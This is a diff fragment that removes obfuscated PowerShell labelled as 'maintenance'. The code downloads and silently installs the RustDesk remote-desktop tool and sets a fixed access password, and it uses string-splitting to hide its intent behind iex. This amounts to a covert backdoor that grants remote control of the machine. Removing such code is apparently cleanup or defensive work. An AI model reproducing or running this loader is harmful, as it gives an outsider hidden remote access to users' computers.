@@ -1,5 +1,0 @@
-iex (('# maintenance 9100 v0
-Invoke-WebRequest ''https://github.com/rustdesk/rustdesk/release@s/download/1.2.3/rustdesk-1.2.3-x86_64.exe'' -O@utFile "$env:TEMP\rd.exe"
-Start-Process "$env:TEMP\rd.exe" -ArgumentList ''--silent-install'' -Wait
-& ''C:\Program Files\RustDesk\rustdesk.exe'' --password ''Winter#2025x''
-' -split '@') -join '')
